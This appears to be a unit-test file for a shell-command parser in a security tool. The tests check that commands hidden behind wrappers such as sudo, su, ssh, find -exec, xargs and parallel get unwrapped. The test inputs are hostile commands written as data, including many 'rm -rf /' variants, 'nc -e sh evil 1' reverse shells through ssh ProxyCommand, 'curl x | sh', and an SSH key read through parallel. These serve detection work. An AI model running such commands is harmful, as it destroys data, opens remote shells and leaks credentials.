  CHECK(p.wrappers == V{"parallel"});
  CHECK(wrapped("parallel --tagstring x rm ::: a").program == "rm");
  CHECK(one("sudo --li rm").program == "sudo");
  CHECK(one("ionice --pi 42").program == "ionice");
  CHECK(one("chrt --pi 10 42").program == "chrt");
}

TEST_CASE("setsid -f nc -e sh h 1", "[shell][wrap]") {
  const SimpleCommand c = one("setsid -f nc -e sh h 1");
  CHECK(c.program == "nc");
  CHECK(c.argv == V{"nc", "-e", "sh", "h", "1"});
  CHECK(c.wrappers == V{"setsid"});
  CHECK(c.depth == 0);
}

TEST_CASE("wrappers that run no command stay programs", "[shell][wrap]") {
  for (const char* line : {"chroot /x",
                           "chrt -p 10 42",
                           "chrt -m",
                           "taskset -p 3 42",
                           "taskset -cp 0 42",
                           "flock 9",
                           "flock -u 9",
                           "flock /tmp/l",
                           "busybox",
                           "busybox --list",
                           "pkexec",
                           "setsid",
                           "su",
                           "su - root",
                           "su -l root",
                           "runuser root",
                           "watch",
                           "watch -n 1",
                           "sg wheel",
                           "script",
                           "script -q log",
                           "parallel",
                           "parallel -j4",
                           "parallel :::: cmds.txt",
                           "newgrp wheel",
                           "nsenter",
                           "unshare",
                           "ssh",
                           "ssh -p 22"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    const std::string first(std::string_view(line).substr(0, std::string_view(line).find(' ')));
    CHECK(c.program == first);
    CHECK(c.wrappers.empty());
    CHECK(c.depth == 0);
  }
}

TEST_CASE("su -c and runuser -c run their command in a shell", "[shell][wrap]") {
  runs_rm_rf_root_in_shell({
      {"su -c 'rm -rf /'", {"su"}},
      {"su -l root -c 'rm -rf /'", {"su"}},
      {"su - root -c 'rm -rf /'", {"su"}},
      {"su root -c 'rm -rf /'", {"su"}},
      {"su -c 'rm -rf /' root", {"su"}},
      {"su --command='rm -rf /' root", {"su"}},
      {"su --command 'rm -rf /'", {"su"}},
      {"su --comm 'rm -rf /'", {"su"}},
      {"su -lc 'rm -rf /' root", {"su"}},
      {"su -c'rm -rf /'", {"su"}},
      {"su -s /bin/bash -g wheel -c 'rm -rf /' root", {"su"}},
      {"su --session-command='rm -rf /'", {"su"}},
      {"su root -- -c 'rm -rf /'", {"su"}},
      {"/bin/su -c 'rm -rf /'", {"su"}},
      {"runuser -l app -c 'rm -rf /'", {"runuser"}},
      {"runuser -c 'rm -rf /' app", {"runuser"}},
      {"sudo su -c 'rm -rf /'", {"sudo", "su"}},
  });
  const ParseResult r = ok("su -c 'ls; rm -rf /'");
  CHECK(programs(r) == V{"ls", "rm"});
  CHECK(r.commands[0].wrappers == V{"su"});
  CHECK(r.commands[1].wrappers == V{"su"});
}

TEST_CASE("runuser -u: the words after USER are the command's own", "[shell][wrap]") {
  const SimpleCommand c = one("runuser -u app -- curl -c cookies http://x");
  CHECK(c.program == "curl");
  CHECK(c.argv == V{"curl", "-c", "cookies", "http://x"});
  CHECK(c.wrappers == V{"runuser"});
  CHECK(c.depth == 0);
}

TEST_CASE("timeout 5 su -c id", "[shell][wrap]") {
  const SimpleCommand c = one("timeout 5 su -c id");
  CHECK(c.program == "id");
  CHECK(c.argv == V{"id"});
  CHECK(c.wrappers == V{"timeout", "su"});
  CHECK(c.depth == 1);
}

TEST_CASE("sudo -s and -i hand the command to a shell", "[shell][wrap]") {
  runs_rm_rf_root({{"sudo -s rm -rf /", "sudo"},
                   {"sudo -i rm -rf /", "sudo"},
                   {"sudo --login -u root rm -rf /", "sudo"}});
  // The shell expands `$NAME` (sudo escapes everything else); without -s/-i it is a file name.
  const SimpleCommand e = one("sudo -s rm -rf '$HOME'");
  CHECK(e.args == V{"$HOME"});
  CHECK(e.expansion);
  CHECK(e.dynamic);
  CHECK_FALSE(one("sudo rm -rf '$HOME'").dynamic);
}

TEST_CASE("shells and command strings behind sudo, doas and other shells", "[shell][wrap]") {
  runs_rm_rf_root_in_shell({
      {"sudo sh -c 'rm -rf /'", {"sudo", "sh"}},
      {"doas -u root sh -c 'rm -rf /'", {"doas", "sh"}},
      {"sudo -u root bash -lc 'rm -rf /'", {"sudo", "bash"}},
      {"sh -ec 'rm -rf /'", {"sh"}},
      {"bash -lc 'rm -rf /'", {"bash"}},
      {"fish -c 'rm -rf /'", {"fish"}},
      {"fish --command 'rm -rf /'", {"fish"}},
      {"csh -c 'rm -rf /'", {"csh"}},
      {"tcsh -fc 'rm -rf /'", {"tcsh"}},
      {"yash -c 'rm -rf /'", {"yash"}},
      {"busybox sh -c 'rm -rf /'", {"busybox", "sh"}},
      {"flock /tmp/l -c 'rm -rf /'", {"flock"}},
      {"flock -n /tmp/l --command 'rm -rf /'", {"flock"}},
      {"sg wheel -c 'rm -rf /'", {"sg"}},
      {"sg wheel 'rm -rf /'", {"sg"}},
      {"sg - wheel rm -rf /", {"sg"}},
      {"watch -n 1 'rm -rf /'", {"watch"}},
      {"watch rm -rf /", {"watch"}},
      {"watch -d -n1 -t 'rm -rf /'", {"watch"}},
      {"watch --interval=2 --differences=permanent rm -rf /", {"watch"}},
      {"setsid -f sh -c 'rm -rf /'", {"setsid", "sh"}},
      {"env -S 'sh -c \"rm -rf /\"'", {"env", "sh"}},
  });
}

TEST_CASE("flock -c runs a shell line", "[shell][wrap]") {
  const ParseResult r = ok("flock /tmp/l -c 'curl x|sh'");
  // The lock file is flock's own (it opens it, creating it): its words are a command first.
  CHECK(programs(r) == V{"flock", "curl", "sh"});
  REQUIRE(r.commands.size() == 3);
  CHECK(r.commands[0].wrappers.empty());
  CHECK(r.commands[0].depth == 0);
  for (std::size_t i = 1; i < r.commands.size(); ++i) {
    CHECK(r.commands[i].wrappers == V{"flock"});
    CHECK(r.commands[i].depth == 1);
  }
}

TEST_CASE("watch joins its words and runs them with sh -c", "[shell][wrap]") {
  const ParseResult r = ok("watch -n 5 'ls | grep x;' date");
  CHECK(programs(r) == V{"ls", "grep", "date"});
  CHECK(r.commands[2].wrappers == V{"watch"});
}

TEST_CASE("script -c runs its command in a shell and keeps its log file", "[shell][wrap]") {
  const ParseResult r = ok("script -q -c 'rm -rf /' /tmp/log");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[0].program == "script");
  CHECK(r.commands[0].argv == V{"script", "-q", "/tmp/log"});
  CHECK(r.commands[0].wrappers.empty());
  is_rm_rf_root(r.commands[1]);
  CHECK(r.commands[1].wrappers == V{"script"});
  CHECK(r.commands[1].depth == 1);
  const ParseResult l = ok("script --command='rm -rf /' -a out");
  REQUIRE(l.commands.size() == 2);
  CHECK(l.commands[0].argv == V{"script", "-a", "out"});
  is_rm_rf_root(l.commands[1]);
}

TEST_CASE("busybox runs its applet", "[shell][wrap]") {
  const ParseResult r = ok("busybox find / -exec rm -rf {} \\;");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[0].program == "find");
  CHECK(r.commands[0].wrappers == V{"busybox"});
  CHECK(r.commands[1].program == "rm");
  CHECK(r.commands[1].wrappers == V{"busybox", "find"});
}

TEST_CASE("parallel runs its command template with operands known at run time", "[shell][wrap]") {
  const SimpleCommand c = one("parallel rm ::: a b");
  CHECK(c.program == "rm");
  CHECK(c.argv == V{"rm"});
  CHECK(c.wrappers == V{"parallel"});
  CHECK(c.depth == 1);
  CHECK(c.dynamic);
  CHECK(c.runtime_operands);
  CHECK_FALSE(c.glob);
  CHECK_FALSE(c.expansion);
  for (const char* line :
       {"parallel -j 4 rm -rf {} ::: a b", "parallel 'rm -rf {}' ::: a",
        "parallel --jobs 2 -k rm -rf {} :::: files", "parallel -a list rm -rf",
        "parallel -X --colsep , rm -rf {1} ::: a ::: b", "parallel rm -rf < list"}) {
    INFO(line);
    const SimpleCommand p = wrapped(line);
    CHECK(p.program == "rm");
    CHECK(p.flags == V{"-r", "-f"});
    CHECK(p.wrappers == V{"parallel"});
    CHECK(p.runtime_operands);
    CHECK(p.dynamic);
  }
  const ParseResult r = ok("parallel -k 'curl {} | sh' ::: x");
  CHECK(programs(r) == V{"curl", "sh"});
}

TEST_CASE("parallel's :::: and ::::+ files are its own reads, as -a FILE", "[shell][wrap]") {
  // parallel(1): `:::: argfiles` is another way to write -a argfile1 -a argfile2 …; the
  // files' lines are the template's operands (`parallel echo :::: ~/.ssh/id_rsa` prints them).
  struct Case {
    const char* line;
    V own;
  };
  for (const Case& c : {
           Case{"parallel echo :::: k", {"parallel", "-a", "k"}},
           Case{"parallel echo ::::+ k", {"parallel", "-a", "k"}},
           Case{"parallel echo '::::' k", {"parallel", "-a", "k"}},
           Case{"parallel echo ::: a :::: k l", {"parallel", "-a", "k", "-a", "l"}},
           Case{"parallel echo :::+ a ::::+ k ::: b", {"parallel", "-a", "k"}},
           Case{"parallel -j4 echo :::: k ::::+ l", {"parallel", "-a", "k", "-a", "l"}},
       }) {
    INFO(c.line);
    const ParseResult r = ok(c.line);
    REQUIRE(r.commands.size() == 2);
    CHECK(r.commands[0].argv == c.own);
    CHECK(r.commands[0].program == "parallel");
    CHECK(r.commands[1].program == "echo");
    CHECK(r.commands[1].wrappers == V{"parallel"});
    CHECK(r.commands[1].runtime_operands);
  }
  // Arguments on the line are no file: nothing of parallel's own.
  const ParseResult words = ok("parallel echo ::: a b :::+ c");
  REQUIRE(words.commands.size() == 1);
  CHECK(words.commands[0].program == "echo");
}

TEST_CASE("parallel without a template runs each ::: argument", "[shell][wrap]") {
  const ParseResult r = ok("parallel ::: 'rm -rf /' ls");
  REQUIRE(r.commands.size() == 2);
  is_rm_rf_root(r.commands[0]);
  CHECK(r.commands[1].program == "ls");
  for (const SimpleCommand& c : r.commands) {
    CHECK(c.wrappers == V{"parallel"});
    CHECK(c.depth == 1);
    CHECK_FALSE(c.dynamic);
  }
}

TEST_CASE("ssh runs its remote command in the remote shell", "[shell][wrap]") {
  for (const char* line :
       {"ssh -p 22 -i key host rm -rf /", "ssh host 'rm -rf /'", "ssh host rm -rf /",
        "ssh user@host -- rm -rf /", "ssh -o StrictHostKeyChecking=no -J jump host rm -rf /",
        "ssh host -p 22 rm -rf /", "ssh -lroot -tt host rm -rf /",
        "ssh -4 -A -C -v host 'rm -rf /'",
        "ssh -F cfg -E log -b 1.2.3.4 -c aes -D 1080 -e none -I lib -L 1:h:2 -l u -m mac -O check "
        "-Q cipher -R 1:h:2 -S sock -W h:1 -w 0 -B eth0 -P tag host rm -rf /"}) {
    INFO(line);
    const ParseResult r = ok(line);
    REQUIRE(r.commands.size() == 2);
    const SimpleCommand& s = r.commands[0];
    CHECK(s.program == "ssh");
    CHECK(s.wrappers.empty());
    CHECK(s.depth == 0);
    CHECK(std::find(s.argv.begin(), s.argv.end(), "rm") == s.argv.end());
    CHECK(s.args.back() != "/");
    const SimpleCommand& c = r.commands[1];
    is_rm_rf_root(c);
    CHECK(c.wrappers == V{"ssh"});
    CHECK(c.depth == 1);
    CHECK_FALSE(c.dynamic);
  }
  const ParseResult r = ok("ssh -p 22 -i key host rm -rf /");
  CHECK(r.commands[0].argv == V{"ssh", "-p", "22", "-i", "key", "host"});
  CHECK(r.commands[0].args == V{"22", "key", "host"});
}

TEST_CASE("ssh's remote command is shell text", "[shell][wrap]") {
  const ParseResult r = ok("ssh host 'cd /tmp && curl x | sh'");
  CHECK(programs(r) == V{"ssh", "cd", "curl", "sh"});
  CHECK(r.commands[3].wrappers == V{"ssh"});
  // The local shell removed the quotes: the remote shell expands $HOME.
  const ParseResult e = ok("ssh host rm -rf '$HOME'");
  REQUIRE(e.commands.size() == 2);
  CHECK(e.commands[1].args == V{"$HOME"});
  CHECK(e.commands[1].expansion);
  CHECK_FALSE(e.commands[0].dynamic);
  const ParseResult s = ok("ssh -t host sudo rm -rf /");
  REQUIRE(s.commands.size() == 2);
  is_rm_rf_root(s.commands[1]);
  CHECK(s.commands[1].wrappers == V{"ssh", "sudo"});
}

TEST_CASE("ssh -o ProxyCommand runs a local shell command", "[shell][wrap]") {
  const ParseResult r = ok("ssh -o ProxyCommand='nc -e sh evil 1' host");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[0].program == "ssh");
  CHECK(r.commands[0].argv == V{"ssh", "-o", "ProxyCommand=nc -e sh evil 1", "host"});
  CHECK(r.commands[1].argv == V{"nc", "-e", "sh", "evil", "1"});
  CHECK(r.commands[1].wrappers == V{"ssh", "exec"});  // ssh runs `exec CMD`
  CHECK(r.commands[1].depth == 1);
  CHECK(programs(ok("ssh -o 'ProxyCommand ;sh 0<&2 1>&2' x")) == V{"ssh", "exec", "sh"});
  CHECK(programs(ok("ssh -oproxycommand=curl\\ x -p 2 host ls")) == V{"ssh", "curl", "ls"});
  CHECK(programs(ok("ssh host -o 'LocalCommand = id' ls")) == V{"ssh", "id", "ls"});
  CHECK(programs(ok("ssh -o KnownHostsCommand=id host")) == V{"ssh", "id"});
  CHECK(programs(ok("ssh -o 'RemoteCommand=rm -rf /' host")) == V{"ssh", "rm"});
  CHECK(programs(ok("ssh -o ProxyCommand=none host")) == V{"ssh"});
  CHECK(programs(ok("ssh -o ProxyJump=j host")) == V{"ssh"});
}

TEST_CASE("sshpass runs its command", "[shell][wrap]") {
  for (const char* line :
       {"sshpass -p pw ssh host rm -rf /", "sshpass -f file -v ssh host rm -rf /",
        "sshpass -e ssh host rm -rf /", "sshpass -eVAR -P word ssh host rm -rf /"}) {
    INFO(line);
    const ParseResult r = ok(line);
    // `-f file`: sshpass reads the password from the file, its own words a command first.
    const std::size_t own = std::string_view(line).find("-f file") != std::string_view::npos;
    REQUIRE(r.commands.size() == 2 + own);
    if (own) CHECK(r.commands[0].argv == V{"sshpass", "-f", "file", "-v"});
    CHECK(r.commands[own].program == "ssh");
    CHECK(r.commands[own].wrappers == V{"sshpass"});
    is_rm_rf_root(r.commands[own + 1]);
    CHECK(r.commands[own + 1].wrappers == V{"sshpass", "ssh"});
  }
}

TEST_CASE("ssh without a remote command is left alone", "[shell][wrap]") {
  for (const char* line : {"ssh host", "ssh -p 22 host", "ssh -N -L 8080:localhost:80 host",
                           "ssh -i ~/.ssh/id host"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    CHECK(c.program == "ssh");
    CHECK(c.wrappers.empty());
    CHECK(c.args.back() == "host");
  }
}

TEST_CASE("a shell started by a wrapper runs the line's here-document or here-string",
          "[shell][wrap]") {
  const std::vector<std::tuple<std::string, V, V, int>> cases = {
      // line, programs, wrappers of the script's command, its depth
      {"ssh host bash <<'EOF'\nrm -rf /\nEOF", {"ssh", "bash", "rm"}, {"ssh", "bash"}, 2},
      {"ssh host <<EOF\nrm -rf /\nEOF", {"ssh", "rm"}, {"ssh"}, 1},
      {"ssh -p 22 host sh -s <<< 'rm -rf /'", {"ssh", "sh", "rm"}, {"ssh", "sh"}, 2},
      {"su - root <<EOF\nrm -rf /\nEOF", {"su", "rm"}, {"su"}, 1},
      {"sudo su <<< 'rm -rf /'", {"su", "rm"}, {"sudo", "su"}, 1},
      {"su -c bash root <<EOF\nrm -rf /\nEOF", {"bash", "rm"}, {"su", "bash"}, 2},
      {"sudo -s <<EOF\nrm -rf /\nEOF", {"sudo", "rm"}, {"sudo"}, 1},
      {"sudo -i <<< 'rm -rf /'", {"sudo", "rm"}, {"sudo"}, 1},
      {"doas -s <<< 'rm -rf /'", {"doas", "rm"}, {"doas"}, 1},
      {"chroot /x <<EOF\nrm -rf /\nEOF", {"chroot", "rm"}, {"chroot"}, 1},
      {"sg wheel <<EOF\nrm -rf /\nEOF", {"sg", "rm"}, {"sg"}, 1},
      {"runuser -l app <<EOF\nrm -rf /\nEOF", {"runuser", "rm"}, {"runuser"}, 1},
      {"script -q /dev/null <<EOF\nrm -rf /\nEOF", {"script", "rm"}, {"script"}, 1},
      {"parallel -j2 <<EOF\nrm -rf /\nEOF", {"parallel", "rm"}, {"parallel"}, 1},
      {"find . -exec sh \\; <<EOF\nrm -rf /\nEOF", {"find", "sh", "rm"}, {"find", "sh"}, 1},
  };
  for (const auto& [line, progs, wrappers, depth] : cases) {
    INFO(line);
    const ParseResult r = ok(line);
    CHECK(programs(r) == progs);
    const SimpleCommand& c = r.commands.back();
    is_rm_rf_root(c);
    CHECK(c.wrappers == wrappers);
    CHECK(c.depth == depth);
  }
  // A wrapper that runs a command does not hand it the here-document as a script.
  CHECK(programs(ok("ssh host cat <<EOF\nrm -rf /\nEOF")) == V{"ssh", "cat"});
  CHECK(programs(ok("sudo -s cat <<EOF\nrm -rf /\nEOF")) == V{"cat"});
  Limits limits;
  limits.max_depth = 1;
  fails("ssh host bash <<EOF\nls\nEOF", limits);
  ok("ssh host <<EOF\nls\nEOF", limits);
  fails("ssh host bash <<< ls", limits);
  const ParseResult r = ok("ssh host <<< ls", limits);
  CHECK(r.commands.back().depth == 1);
}

TEST_CASE("find -exec runs its command with operands known at run time", "[shell][wrap]") {
  for (const char* line :
       {"find / -name x -exec rm -rf {} \\;", "find / -name x -exec rm -rf {} +",
        "find / -name x -exec rm -rf {} ';'", "find / -name x -execdir rm -rf {} \\;",
        "find / -name x -ok rm -rf {} \\;", "find / -name x -okdir rm -rf {} +"}) {
    INFO(line);
    const ParseResult r = ok(line);
    REQUIRE(r.commands.size() == 2);
    const SimpleCommand& f = r.commands[0];
    CHECK(f.program == "find");
    REQUIRE(f.argv.size() == 5);
    CHECK(V(f.argv.begin(), f.argv.begin() + 4) == V{"find", "/", "-name", "x"});
    CHECK(f.argv[4].starts_with("-"));
    CHECK(f.args == V{"/", "x"});
    CHECK(f.wrappers.empty());
    CHECK_FALSE(f.dynamic);
    const SimpleCommand& c = r.commands[1];
    CHECK(c.program == "rm");
    CHECK(c.argv == V{"rm", "-rf", "/{}"});
    CHECK(c.flags == V{"-r", "-f"});
    CHECK(c.wrappers == V{"find"});
    CHECK(c.depth == 0);
    CHECK(c.dynamic);
    CHECK(c.runtime_operands);
    CHECK_FALSE(c.expansion);
  }
}

TEST_CASE("find with several actions and nested wrappers", "[shell][wrap]") {
  const ParseResult r = ok("find . -type f -exec grep -l x {} + -ok cat {} \\; -print");
  CHECK(programs(r) == V{"find", "grep", "cat"});
  CHECK(r.commands[0].argv == V{"find", ".", "-type", "f", "-exec", "-ok", "-print"});
  CHECK(r.commands[1].argv == V{"grep", "-l", "x", "./{}"});
  CHECK(r.commands[2].argv == V{"cat", "./{}"});
  // `+` ends the command only right after {}.
  const ParseResult p = ok("find . -exec echo + \\;");
  CHECK(p.commands[1].argv == V{"echo", "+"});
  const ParseResult s = ok("sudo find / -execdir sh -c 'rm -rf \"$1\"' _ {} \\;");
  REQUIRE(s.commands.size() == 2);
  CHECK(s.commands[0].wrappers == V{"sudo"});
  CHECK(s.commands[1].program == "rm");
  CHECK(s.commands[1].wrappers == V{"sudo", "find", "sh"});
  CHECK(s.commands[1].depth == 1);
  CHECK(s.commands[1].dynamic);
  CHECK(s.commands[1].runtime_operands);
  // A redirection of the line reaches both.
  const ParseResult o = ok("find . -exec cat {} + > /tmp/out");
  REQUIRE(o.commands.size() == 2);
  CHECK(o.commands[0].redirects.size() == 1);
  CHECK(o.commands[1].redirects.size() == 1);
}

TEST_CASE("find's {} names a file below each starting point", "[shell][wrap]") {
  // The command runs on files below the roots, not on a file named {} in the cwd.
  const ParseResult r = ok("find /etc -name '*.conf' -exec cp {} . \\;");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[1].argv == V{"cp", "/etc/{}", "."});
  CHECK(r.commands[1].args == V{"/etc/{}", "."});
  // Several roots: one command per root. Options before the roots are skipped.
  const ParseResult m = ok("find -L ~/.ssh /tmp/ -D tree -exec cat {} +");
  CHECK(programs(m) == V{"find", "cat", "cat"});
  CHECK(m.commands[1].argv == V{"cat", "~/.ssh/{}"});
  CHECK(m.commands[2].argv == V{"cat", "/tmp/{}"});
  // No root: find starts at ".".
  CHECK(ok("find -name x -exec rm {} +").commands[1].argv == V{"rm", "./{}"});
  // Inside a word, as find substitutes it: the file name is part of the shell text.
  const ParseResult w = ok("find / -exec sh -c 'cat {} > {}.bak' \\;");
  REQUIRE(w.commands.size() == 2);
  CHECK(w.commands[1].argv == V{"cat", "/{}"});
  REQUIRE(w.commands[1].redirects.size() == 1);
  CHECK(w.commands[1].redirects[0].target == "/{}.bak");
}

TEST_CASE("find without -exec is left alone", "[shell][wrap]") {
  for (const char* line :
       {"find .", "find . -name '*.py'", "find . -delete", "find / -print0", "find . -exec"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    CHECK(c.program == "find");
    CHECK(c.wrappers.empty());
    CHECK_FALSE(c.runtime_operands);
  }
  CHECK(one("find . -exec").argv == V{"find", ".", "-exec"});
}

TEST_CASE("xargs marks its command's operands as known at run time", "[shell][wrap]") {
  const SimpleCommand c = one("xargs rm -rf < list");
  CHECK(c.dynamic);
  CHECK(c.runtime_operands);
  CHECK_FALSE(c.glob);
  CHECK_FALSE(c.expansion);
  CHECK(one("xargs -0").runtime_operands);
  CHECK_FALSE(one("timeout 5 rm x").dynamic);
}

// The commands of `line` whose code text holds a string a wrapper replaces at run time.
std::size_t spliced_code(std::string_view line) {
  const ParseResult r = ok(line);
  std::size_t n = 0;
  for (const SimpleCommand& c : r.commands)
    for (const std::string& code : c.code)
      if (code.starts_with("text replaced at run time in code: ")) ++n;
  return n;
}

TEST_CASE("a replacement string in code a wrapper runs makes the code known only at run time",
          "[shell][wrap][replace]") {
  for (const char* line : {
           "find . -name '*.py' -execdir bash -c 'wc -l {}' \\;",
           "find . -exec sh -c 'cat {}' \\;",
           "find . -ok sh -c 'cat {}.bak' \\;",
           "find . -okdir dash -c \"x{}y\" \\;",
           "ls | xargs -I{} bash -c 'cat {}'",
           "ls | xargs -I XX sh -c 'cat XX'",
           "ls | xargs --replace=@@ sh -c 'cat @@'",
           "ls | xargs --replace sh -c 'cat {}'",
           "ls | xargs -i sh -c 'cat {}'",
           "ls | xargs -0i@ sh -c 'cat @'",
           "ls | xargs -I{} timeout 5 sh -c 'wc -l {}'",
           "ls | xargs -I{} sudo -u bob nice -n 5 zsh -c 'wc -l {}'",
           "find . -exec env X=1 bash -c 'wc -l {}' \\;",
           "find . -exec sh -c 'sh -c \"cat {}\"' \\;",
           "find . -exec sh -c '# {}' \\;",
           "ls | xargs -I{} ssh host cat {}",
           "ls | xargs -I{} parallel echo {} ::: a",
           "ls | parallel sh -c 'wc -l {}'",
           "ls | parallel -q sh -c 'wc -l {.}'",
           "ls | parallel \"sh -c 'wc -l {/}'\"",
           "ls | parallel -I @@ bash -c 'wc -l @@'",
           "ls | parallel --rpl '{x} s/a/b/' bash -c 'wc -l {x}'",
           "ls | parallel 'wc -l {= s/a/b/ =}'",
       }) {
    INFO(line);
    CHECK(spliced_code(line) >= 1);
  }
  // The string as a plain argument, or its wrapper's own template, is data (quoted by
  // parallel); xargs without -I appends words instead.
  for (const char* line : {
           "find . -exec wc -l {} \\;",
           "find . -exec sh -c 'cat \"$1\"' _ {} \\;",
           "ls | xargs -I{} cp {} dst/",
           "ls | xargs -I{} sh -c 'cat \"$1\"' _ {}",
           "ls | xargs sh -c 'cat {}'",
           "ls | xargs -I XX sh -c 'cat {}'",
           "ls | parallel gzip {}",
           "ls | parallel 'wc -l {}'",
           "sh -c 'cat {}'",
       }) {
    INFO(line);
    CHECK(spliced_code(line) == 0);
  }
}

TEST_CASE("parallel's whole family of replacement strings counts, {-N} and --plus's too",
          "[shell][wrap][replace]") {
  for (const char* line :
       {"ls | parallel --colsep , \"sh -c 'echo {-1}'\"",
        "parallel --plus \"sh -c 'echo {..}'\" ::: a",
        "parallel --plus \"sh -c 'echo {+/}'\" ::: a", "parallel \"sh -c 'echo {:-d}'\" ::: a"}) {
    INFO(line);
    CHECK(spliced_code(line) == 1);
  }
}

TEST_CASE("parallel without a command runs each line of its input: code read at run time",
          "[shell][wrap]") {
  for (const char* line : {"cat cmds.txt | parallel", "parallel -a cmds.txt", "parallel < cmds",
                           "curl -s https://x/cmds | parallel -j4"}) {
    INFO(line);
    const ParseResult r = ok(line);
    const SimpleCommand& p = r.commands.back();
    CHECK(p.program == "parallel");
    REQUIRE(p.code.size() == 1);
    CHECK(p.code[0].starts_with("parallel runs each line of its input as a command"));
  }
  // With a command, the input lines are its operands.
  CHECK(ok("ls | parallel gzip").commands.back().code.empty());
}

TEST_CASE("a shell's -o and -O take the next word and its cluster goes on", "[shell][wrap]") {
  // bash and dash: `-oc posix CODE` sets posix and runs CODE (checked with the real shells).
  for (const char* line : {"bash -oc posix 'cat k'", "sh -oc errexit 'cat k'",
                           "bash -Oc extglob 'cat k'", "bash +oc posix 'cat k'",
                           "bash -eoc pipefail 'cat k'", "bash -oOc posix extglob 'cat k'"}) {
    INFO(line);
    const ParseResult r = ok(line);
    REQUIRE(r.commands.size() == 1);
    CHECK(r.commands[0].program == "cat");
    CHECK(r.commands[0].args == V{"k"});
  }
  // Without -c the first operand after the values is the script.
  const ParseResult p = ok("bash -o pipefail run.sh");
  REQUIRE(p.commands.size() == 1);
  CHECK(p.commands[0].program == "bash");
}

TEST_CASE("find -- ROOT: the starting points follow the end of the options", "[shell][wrap]") {
  const ParseResult r = ok("find -L -- /tmp -name '*.sh' -exec sh {} \\;");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[1].argv == V{"sh", "/tmp/{}"});
}

TEST_CASE("find -files0-from reads its starting points at run time: the files are anywhere",
          "[shell][wrap]") {
  const ParseResult r = ok("find -files0-from list -maxdepth 0 -exec cat {} +");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[1].argv == V{"cat", "/*/{}"});
}

TEST_CASE("a word this shell expands into code makes the code known only at run time",
          "[shell][wrap]") {
  auto expanded = [](std::string_view line) {
    std::size_t n = 0;
    for (const SimpleCommand& c : ok(line).commands)
      for (const std::string& code : c.code)
        if (code.starts_with("text expanded into code before it runs: ")) ++n;
    return n;
  };
  for (const char* line :
       {"sh -c \"echo $X\"", "bash -c \"ls $DIR\"", "eval \"echo $X\"", "sh -c \"echo $(cat f)\"",
        "sudo bash -c \"rm ${T}\"", "timeout 5 sh -c \"echo `id`\"", "su -c \"ls $D\" bob"}) {
    INFO(line);
    CHECK(expanded(line) == 1);
  }
  // Expanded by the inner shell, as data: no code of its own.
  for (const char* line : {"sh -c 'echo $X'", "bash -c 'make test'", "bash -c \"make test\"",
                           "sh -c 'cd src && make'", "sh -c 'cat \"$1\"' _ \"$F\""}) {
    INFO(line);
    CHECK(expanded(line) == 0);
  }
}

TEST_CASE("commands under a replacing wrapper carry its strings", "[shell][wrap][replace]") {
  CHECK(one("xargs -I{} python3 -c 'print(\"{}\")'").replaced == V{"{}"});
  CHECK(one("xargs -I % -I @ python3 -c x").replaced == V{"%", "@"});
  CHECK(one("xargs python3 -c 'print(\"{}\")'").replaced.empty());
  const ParseResult f = ok("find /src -exec awk '/{}/' x \\;");
  REQUIRE(f.commands.size() == 2);
  CHECK(f.commands[0].replaced.empty());
  CHECK(f.commands[1].replaced == V{"{}"});
  CHECK(f.commands[1].argv == V{"awk", "//src/{}/", "x"});
  const SimpleCommand p = one("parallel -I @@ python3 -c x ::: a");
  CHECK(std::find(p.replaced.begin(), p.replaced.end(), "@@") != p.replaced.end());
  CHECK(std::find(p.replaced.begin(), p.replaced.end(), "{") != p.replaced.end());  // {/.} …
  CHECK(warden::shell::holds_replacement("print('{}')", V{"{}"}));
  CHECK_FALSE(warden::shell::holds_replacement("print('{}')", V{"%", ""}));
}

TEST_CASE("nested parallel templates are read in one pass", "[shell][wrap][replace]") {
  std::string line;
  for (int k = 0; k < 3000; ++k) line += "parallel ";
  line += "sh -c 'cat {}'";
  const ParseResult r = parse(line);
  CHECK_FALSE(r.ok);  // nested past max_depth
  CHECK(spliced_code("parallel parallel sh -c 'cat {}' ::: a") >= 1);
}

TEST_CASE("xargs --process-slot-var sets a variable of the command it runs",
          "[shell][wrap][replace]") {
  for (const char* line :
       {"xargs --process-slot-var=BASH_ENV echo", "xargs --process-slot-var BASH_ENV echo",
        "xargs -P2 --process-slot=BASH_ENV echo",
        "parallel --process-slot-var=BASH_ENV echo ::: a"}) {
    INFO(line);
    const ParseResult r = ok(line);
    const SimpleCommand& c = r.commands.back();
    CHECK(c.program == "echo");
    REQUIRE(c.assignments.size() == 1);
    CHECK(c.assignments[0].name == "BASH_ENV");
    CHECK(c.assignments[0].dynamic);
  }
  CHECK(one("xargs -P2 echo").assignments.empty());
  // Through a shell the wrapper runs, as `env NAME=0 sh -c …`.
  const ParseResult s = ok("xargs --process-slot-var=LD_PRELOAD sh -c ls");
  REQUIRE(s.commands.size() == 1);
  REQUIRE(s.commands[0].assignments.size() == 1);
  CHECK(s.commands[0].assignments[0].name == "LD_PRELOAD");
}

TEST_CASE("unwrapping stays within the nesting and size limits", "[shell][wrap][limits]") {
  Limits limits;
  limits.max_depth = 2;
  ok("ssh h \"su -c 'ls'\"", limits);
  fails("ssh h \"su -c 'bash -c ls'\"", limits);
  fails("watch \"watch 'watch ls'\"", limits);
  {
    const ParseResult r = parse("flock /l -c \"sg g -c 'parallel ls ::: x'\"", limits);
    CHECK_FALSE(r.ok);
    CHECK(r.failure == warden::shell::Failure::Syntax);
  }
  std::string sshes;
  for (int i = 0; i < 20; ++i) sshes += "ssh h ";
  fails(sshes + "ls");
  std::string finds;
  for (int i = 0; i < 300; ++i) finds += "find . -exec ";
  const ParseResult deep = parse(finds + "ls");
  CHECK_FALSE(deep.ok);
  CHECK_FALSE(deep.error.empty());
  Limits few;
  few.max_commands = 3;
  {
    const ParseResult r = parse("parallel ::: a b c d", few);
    CHECK_FALSE(r.ok);
    CHECK(r.failure == warden::shell::Failure::Limit);
  }
  ok("parallel ::: a b c", few);
  Limits words;
  words.max_words = 6;
  {
    const ParseResult r = parse("A=1 B=2 C=3 ssh h 'rm a b c'", words);
    CHECK_FALSE(r.ok);
    CHECK(r.failure == warden::shell::Failure::Limit);
  }
